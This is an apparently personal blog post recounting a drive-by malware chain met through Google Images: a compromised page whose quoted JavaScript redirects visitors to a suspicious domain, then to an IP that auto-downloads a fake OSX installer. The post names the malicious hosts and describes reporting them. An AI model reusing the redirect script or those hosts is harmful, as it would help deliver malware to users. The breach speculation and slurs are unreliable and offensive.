Malware — a report from the trenches.

Some people wonder if malware is a thing of the past. Afterall, if you know what a blog is, chances are you also know how to not get phished nor p0wned. You probably also think that because you are white-hat (not applicable to socially-retarded individuals), that the real threat is gone and a thing for kids hanging out on meme forums.

Let me explain what just happened as I was surfing:

I was image-surfing on Google, and I came across this image of what appears to be a visual test for an attractiveness study: Visual test for an attractiveness study showing what one of the screens must have looked like. There is certain irony that most likely, only those who use a non-image approach to web surfing actually know I wrote this. Also those who like to see what's behind thecurtain, so to speak. I'd say under the skirt.

Upon hovering to click, Ididn't bother making sense of what Google had picked in its index:
Google's wacky indexing

The image name makes sense (as opposed to these automatically-named uploads). The descriptive text and url, not so much. TL;DR

So I clicked, which sent me to a Google image server interstitial with a url that only Chuck Norris could read:


(By the way, it's interesting to see what data Google seems to be acquiring. Perhaps in another post)

The image was hosted oncache.gawkerassets.com which could or not directly correlate it to the attack that Gawker media underwent (allegedly — conspiracy alert).

Google then loads the page hosting the image in the background. This page, hosted on sailmaldives.com has only script as the source:

var url = "http://dczhxynm.ce.ms/in.cgi?2&seoref="+

if (window!=top) {top.location.href = url;}
else document.location= url;

So off you go to a domain that looks totally legit. But not for long. A 302 redirect directly to an IP address that has no DNS registry: and a proper tracking code made just for me: GET /79821af005378d43c661c9f19b618d143804cc4c0bece84e HTTP/1.1. How kind. Now they know everything that Google wanted to know about me.What follows is a very well made interface:

That's an image. You can click on it, you wuss.

The real site automatically sends you a zip file. As you can see, it was automatically downloaded by chrome (I suppose there are setting somewhere to ask first or not. Whatever.). The archive contains an OSX installer, which... well, I'm not that stupid. You are welcome to reverse engineer it if you want. I'm curious.

So I did what any responsible netizen would do:post it on reddit post it on twitter post it on facebook report it to Google:

Type google malware on a search box, click first result. I'm sure you know how to do this.

The interesting thing here is, the site is broken on my current version of Chrome. What. The. Hell.


Source code for an invisible container.

Whatever. Remove "position:relative", fill form, submit details.

Google breaks.

If you work for Google, email the malware list and get someone like that annoying Marc Merlin to use his persistence to work andget this clowncar operation fixed. It's even made the news:

How bad is this? Well, Anonymous gained access to my email address and my Playstation Network password with their attack on April 17 or so. This week I received an email from my bank (it was from my bank indeed) asking me to fill a customer survey in response to a phone call I allegedly made. I hadn't. I also got an automated email from PayPal (also legitimate) informing me of a returned email to their service@paypal account. I hadn't.

You can be very skeptical about anything you want, but I will pay attention to what happens next.

My passwords have alwaysbeen different, and that IP address belongsto an ISP in Arizona.

No comments: